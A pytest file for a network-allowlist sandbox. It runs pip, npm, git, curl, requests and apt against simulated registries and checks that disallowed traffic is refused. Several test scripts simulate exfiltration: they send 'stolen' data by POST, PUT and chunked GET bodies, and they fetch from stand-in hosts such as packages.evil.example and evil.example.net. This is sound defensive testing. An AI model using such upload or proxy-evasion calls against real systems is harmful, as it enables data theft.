# SPDX-License-Identifier: Apache-2.0
"""Real programs in a box with an allowlist: pip, npm, git, curl, requests. The registries are servers of the test under their real names, in an internet of our own
(tests/internet.py); their certificates are of an authority that the host trusts there. The presets are what an operator would write."""
import base64
import hashlib
import io
import json
import os
import shutil
import subprocess
import tarfile
import zipfile

import pytest
from internet import answers, internet, one_net_box  # noqa: F401

GUARD_MODE = "off"
ROOTS = "/etc/ssl/certs/ca-certificates.crt"


def wheel():
    """Of a package with one function."""
    files = {
        "tiny/__init__.py": b"def answer():\n    return 42\n",
        "tiny-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: tiny\nVersion: 1.0\n",
        "tiny-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    lines = [f"{name},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()},{len(data)}" for name, data in files.items()]
    files["tiny-1.0.dist-info/RECORD"] = "\n".join([*lines, "tiny-1.0.dist-info/RECORD,,", ""]).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


PIP = "/usr/bin/python3 -m pip install --quiet --no-cache-dir --disable-pip-version-check --target /workspace/lib tiny && PYTHONPATH=/workspace/lib python3 -c 'import tiny; print(tiny.answer())'"


@pytest.fixture
def packages(internet):
    """The index of Python packages, and the server of their files."""
    data = wheel()
    digest = hashlib.sha256(data).hexdigest()
    page = f'<!DOCTYPE html><html><body><a href="https://files.pythonhosted.org/packages/tiny-1.0-py3-none-any.whl#sha256={digest}">tiny-1.0-py3-none-any.whl</a></body></html>'.encode()
    index = internet.site("pypi.org", reply=lambda r: (200, {"Content-Type": "text/html"}, page) if r.path == "/simple/tiny/" else (404, {}, b""))
    return index, internet.site("files.pythonhosted.org", reply=lambda r: data)


UPLOAD = """
import urllib.request, urllib.error
for method in ("POST", "PUT", "DELETE", "PATCH"):
    try:
        print(method, urllib.request.urlopen(urllib.request.Request("https://pypi.org/legacy/", method=method, data=b"stolen"), timeout=20).status)
    except urllib.error.HTTPError as error:
        print(method, error.code, error.read().decode(), end="\\n\\n")
"""


def test_the_whitelist_fetches_and_sends_nothing(packages, one_net_box):
    """network_mode: whitelist is for dependencies: pip works, and what would upload is refused with a sentence."""
    index, files = packages
    result = one_net_box.run(PIP, "sh", network="whitelist")
    assert result.verdict == "ok" and result.stdout.splitlines()[-1] == "42", result.explain()
    assert index.requests and files.requests and {r.method for r in index.requests + files.requests} == {"GET"}
    result = one_net_box.run(UPLOAD, network="whitelist")
    lines = result.stdout.split("\n\n")[:-1]
    assert [line.split()[:2] for line in lines] == [[method, "403"] for method in ("POST", "PUT", "DELETE", "PATCH")], result.explain()
    assert all("GET, HEAD" in line for line in lines), lines
    assert not any(r.body for r in index.requests) and {r.method for r in index.requests} == {"GET"}
    assert {row["decision"] for row in result.json["network"]["hosts"]} <= {"method", "allowed"} and result.json["network"]["denied"] == 4, result.explain()


READ_WITH_BODY = """
import http.client, urllib.request, urllib.error
def pieces():
    for _ in range(30):
        yield b"stolen" * 20000
for method, data in (("GET", b"stolen" * 500000), ("HEAD", b"stolen"), ("GET", pieces())):
    for url in ("https://pypi.org/simple/tiny/", "http://plain.example/"):
        try:
            request = urllib.request.Request(url, method=method, data=data, headers={"Transfer-Encoding": "chunked"} if data is not None and not isinstance(data, bytes) else {})
            print(method, urllib.request.urlopen(request, timeout=20).status)
        except urllib.error.HTTPError as error:
            print(method, error.code, error.headers["Glovebox-Denied"], error.read().decode().strip())
        except (OSError, http.client.HTTPException) as error:  # the proxy has closed while it was sending
            print(method, "cut", type(error).__name__)
print(urllib.request.urlopen(urllib.request.Request("https://pypi.org/simple/tiny/", headers={"Content-Length": "0"}), timeout=20).status)
"""


def test_reading_takes_no_body(packages, internet, one_net_box, tmp_path):
    """Neither the whitelist nor a rule with methods [GET, HEAD] sends the body of a GET, over TLS and in the clear."""
    index, _ = packages
    result = one_net_box.run(READ_WITH_BODY, network="whitelist")
    lines = [line.split() for line in result.stdout.splitlines()]
    assert all(line[1] in ("403", "cut") for line in lines[:-1]) and lines[-1] == ["200"] and len(lines) == 7, result.explain()
    told = [line for line in result.stdout.splitlines() if " 403 body " in line]
    assert any("only reads" in line and "has a body" in line for line in told), result.explain()
    decisions = {(row["host"], row["decision"]): row["requests"] for row in result.json["network"]["hosts"]}
    assert decisions["pypi.org", "body"] == 3 and decisions["plain.example", "no-rule"] == 3 and result.json["network"]["denied"] == 6, result.explain()
    plain = internet.site("plain.example", tls=False)
    result = one_net_box.run(READ_WITH_BODY.replace("https://pypi.org/simple/tiny/", "http://plain.example/"), allow="GET,HEAD http://plain.example")
    decisions = {(row["host"], row["decision"]): row["requests"] for row in result.json["network"]["hosts"]}
    assert decisions == {("plain.example", "body"): 6, ("plain.example", "allowed"): 1}, result.explain()
    assert not any(r.body for r in index.requests + plain.requests) and len(index.requests) == len(plain.requests) == 1


def test_pip(packages, one_net_box):
    index, files = packages
    result = one_net_box.run(PIP, "sh", allow="python-packages")
    assert result.verdict == "ok" and result.stdout.splitlines()[-1] == "42", result.explain()
    assert index.requests and files.requests
    assert {row["host"] for row in result.json["network"]["hosts"] if row["decision"] == "allowed"} == {"pypi.org", "files.pythonhosted.org"}


def test_pip_refused(internet, one_net_box):
    """From anywhere else nothing comes, and what pip shows says why."""
    elsewhere = internet.site("packages.evil.example")
    result = one_net_box.run("/usr/bin/python3 -m pip install --no-cache-dir --retries 1 --disable-pip-version-check --target /workspace/lib --index-url https://packages.evil.example/simple tiny", "sh", allow="python-packages")
    shown = result.stdout + result.stderr
    assert result.verdict != "ok" and "403" in shown and "not in the allowlist" in shown and elsewhere.accepted == 0, result.explain()


@pytest.mark.skipif(not shutil.which("npm") or not os.path.realpath(shutil.which("npm") or "/").startswith("/usr/"), reason="npm is not installed on this host, below /usr")
def test_npm(internet, one_net_box):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, data in {"package/package.json": b'{"name": "tiny", "version": "1.0.0", "main": "index.js"}', "package/index.js": b"exports.answer = () => 42;\n"}.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    data = out.getvalue()
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
    about = {"name": "tiny", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": {
        "name": "tiny", "version": "1.0.0", "dist": {"tarball": "https://registry.npmjs.org/tiny/-/tiny-1.0.0.tgz", "integrity": integrity}}}}
    registry = internet.site("registry.npmjs.org", reply=lambda r: data if r.path.endswith(".tgz") else (200, {"Content-Type": "application/json"}, json.dumps(about).encode()) if r.path == "/tiny" else (404, {}, b"{}"))
    code = "cd /workspace && npm install --cache /tmp/npm --no-audit --no-fund --no-update-notifier --loglevel=error tiny && node -e \"console.log(require('tiny').answer())\""
    result = one_net_box.run(code, "sh", allow="node-packages", env=[f"NODE_EXTRA_CA_CERTS={ROOTS}", "HOME=/tmp"], memory="1g", timeout="60s")
    assert result.verdict == "ok" and result.stdout.splitlines()[-1] == "42", result.explain()
    assert [r.path for r in registry.requests] == ["/tiny", "/tiny/-/tiny-1.0.0.tgz"], registry.requests


@pytest.fixture(scope="module")
def repository(tmp_path_factory):
    """A bare one with a commit."""
    top = tmp_path_factory.mktemp("git")
    environ = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_SYSTEM": "/dev/null", "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@b", "HOME": str(top)}

    def git(*argv, cwd):
        subprocess.run(["git", *argv], cwd=cwd, env=environ, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    (top / "work").mkdir()
    git("init", "-b", "main", cwd=top / "work")
    (top / "work/README").write_text("hello from git\n")
    git("add", "README", cwd=top / "work")
    git("commit", "-m", "first", cwd=top / "work")
    (top / "bare/someone").mkdir(parents=True)
    git("clone", "--bare", str(top / "work"), str(top / "bare/someone/tiny.git"), cwd=top)
    return top / "bare"


def smart_http(top):
    """What github.com is for git: the program git http-backend, as CGI."""
    def reply(request):
        path, _, query = request.path.partition("?")
        environ = {"PATH": os.environ["PATH"], "GIT_PROJECT_ROOT": str(top), "GIT_HTTP_EXPORT_ALL": "1", "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "safe.directory", "GIT_CONFIG_VALUE_0": "*",
                   "PATH_INFO": path, "QUERY_STRING": query, "REQUEST_METHOD": request.method, "REMOTE_ADDR": "127.0.0.1", "CONTENT_TYPE": request.headers.get("Content-Type", ""),
                   "CONTENT_LENGTH": str(len(request.body)), "GIT_PROTOCOL": request.headers.get("Git-Protocol", ""), "HTTP_CONTENT_ENCODING": request.headers.get("Content-Encoding", "")}
        done = subprocess.run(["git", "http-backend"], env=environ, input=request.body, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, check=False)
        head, _, body = done.stdout.partition(b"\r\n\r\n")
        fields = dict(line.split(": ", 1) for line in head.decode().splitlines() if ": " in line)
        return int(fields.pop("Status", "200").split()[0]), fields, body

    return reply


@pytest.mark.parametrize("intercept", [False, True], ids=["tunnel", "intercepted"])
def test_git(internet, one_net_box, repository, intercept):
    """Over a tunnel, and with TLS that ends at the proxy, which puts a token in that git does not have."""
    site = internet.site("github.com", reply=smart_http(repository))
    code = "cd /workspace && git clone --quiet https://github.com/someone/tiny.git && cat tiny/README"
    options = {"allow": "github"}
    if intercept:
        policy = one_net_box.directory() / "policy.yaml"
        policy.write_text('network_mode: allowlist\nnetwork_allow:\n  - {host: github.com, methods: [GET, POST], paths: [/someone/], headers: {Authorization: "Basic dGVzdDp0ZXN0"}, intercept: true}\n')
        options = {"policy": policy}
    result = one_net_box.run(code, "sh", env=["HOME=/tmp"], **options)
    assert result.stdout == "hello from git\n", result.explain()
    assert {r.headers.get("Authorization") for r in site.requests} == ({"Basic dGVzdDp0ZXN0"} if intercept else {None})
    assert any(r.method == "POST" for r in site.requests)


def test_git_refused(internet, one_net_box):
    result = one_net_box.run("git clone --quiet https://git.evil.example/x.git /tmp/x", "sh", allow="github", env=["HOME=/tmp"])
    assert result.verdict != "ok" and "403" in result.stderr, result.explain()


def test_curl(internet, one_net_box):
    """http, https, SOCKS5, a redirect, an upload, and what it says when it is refused."""
    def reply(request):
        if request.path == "/moved":
            return 302, {"Location": "https://secure.example.com/there"}, b""
        return request.body if request.method == "PUT" else f"{request.method} {request.path}\n".encode()

    internet.site("plain.example.com", tls=False, reply=reply)
    internet.site("secure.example.com", reply=reply)
    code = """
curl -sS http://plain.example.com/a
curl -sS https://secure.example.com/b
curl -sS --socks5-hostname 127.0.0.1:3128 --proxy '' https://secure.example.com/c 2>/dev/null || curl -sS -x socks5h://127.0.0.1:3128 https://secure.example.com/c
curl -sSL http://plain.example.com/moved
head -c 3000000 /dev/zero | curl -sS -T - http://plain.example.com/up | wc -c
curl -sS -I https://secure.example.com/head | head -1 | tr -d '\\r'
curl -sS http://evil.example.net/ | head -c 40; echo
curl -sS https://evil.example.net/ 2>&1 | grep -o 403
"""
    result = one_net_box.run(code, "sh", allow=["http://plain.example.com", "secure.example.com"])
    lines = result.stdout.splitlines()
    assert lines[:5] == ["GET /a", "GET /b", "GET /c", "GET /there", "3000000"] and lines[5].startswith("HTTP/1.1 200"), result.explain()
    assert "evil.example.net" in lines[6] and lines[7] == "403", result.explain()


def test_requests(internet, one_net_box):
    """The library that most programs use; pip carries a copy."""
    site = internet.site("secure.example.com", reply=lambda r: (200, {"Set-Cookie": "a=b"}, r.headers.get("Cookie", "").encode()))
    code = """
import json
try:
    import requests
except ImportError:
    from pip._vendor import requests
s = requests.Session()
s.verify = "/etc/ssl/certs/ca-certificates.crt"
found = [s.get("https://secure.example.com/").text, s.get("https://secure.example.com/").text, s.post("https://secure.example.com/", data=b"x" * 100000).status_code]
try:
    s.get("https://evil.example.net/")
except requests.exceptions.ProxyError as error:
    found.append("403" in str(error))
print(json.dumps(found))
"""
    assert answers(one_net_box.run(code, allow="secure.example.com")) == ["", "a=b", 200, True]
    assert len(site.requests) == 3 and site.accepted == 1  # one tunnel for all of them


@pytest.mark.skipif(not shutil.which("apt-get") or not shutil.which("dpkg-deb"), reason="this host has no apt")
def test_apt(internet, one_net_box, tmp_path):
    """It sends its requests without waiting for answers."""
    debs = {}
    for name in (f"tiny{i}" for i in range(12)):
        control = tmp_path / name / "DEBIAN/control"
        control.parent.mkdir(parents=True)
        control.write_text(f"Package: {name}\nVersion: 1.0\nArchitecture: all\nMaintainer: a <a@b>\nDescription: tiny\n")
        subprocess.run(["dpkg-deb", "--build", "--root-owner-group", str(tmp_path / name), str(tmp_path / f"{name}.deb")], check=True, stdout=subprocess.DEVNULL)
        debs[name] = (tmp_path / f"{name}.deb").read_bytes()
    packages = "\n".join(f"Package: {name}\nVersion: 1.0\nArchitecture: all\nMaintainer: a <a@b>\nDescription: tiny\nFilename: pool/{name}.deb\nSize: {len(data)}\nSHA256: {hashlib.sha256(data).hexdigest()}\n"
                         for name, data in debs.items()).encode()
    release = f"Suite: stable\nCodename: stable\nComponents: main\nArchitectures: all\nDate: Mon, 01 Jan 2024 00:00:00 UTC\nSHA256:\n {hashlib.sha256(packages).hexdigest()} {len(packages)} main/binary-all/Packages\n".encode()
    files = {"/debian/dists/stable/Release": release, "/debian/dists/stable/main/binary-all/Packages": packages, **{f"/debian/pool/{name}.deb": data for name, data in debs.items()}}
    site = internet.site("deb.debian.org", tls=False, reply=lambda r: files[r.path] if r.path in files else (404, {}, b""))
    options = "-o Dir::State=/tmp/apt/state -o Dir::State::status=/tmp/apt/status -o Dir::Cache=/tmp/apt/cache -o Dir::Etc=/tmp/apt/etc -o APT::Sandbox::User= -o APT::Architecture=all -o Acquire::Languages=none"
    code = f"""
mkdir -p /tmp/apt/state/lists/partial /tmp/apt/cache/archives/partial /tmp/apt/etc/apt.conf.d /tmp/apt/etc/preferences.d && : > /tmp/apt/status
echo 'deb [trusted=yes] http://deb.debian.org/debian stable main' > /tmp/apt/etc/sources.list
apt-get -qq {options} update && cd /workspace && apt-get -qq {options} download {' '.join(debs)} && ls /workspace/*.deb | wc -l
"""
    result = one_net_box.run(code, "sh", allow="debian-packages")
    assert result.verdict == "ok" and result.stdout.splitlines()[-1] == str(len(debs)), result.explain()
    assert {r.method for r in site.requests} == {"GET"} and {f"/debian/pool/{name}.deb" for name in debs} <= {r.path for r in site.requests}
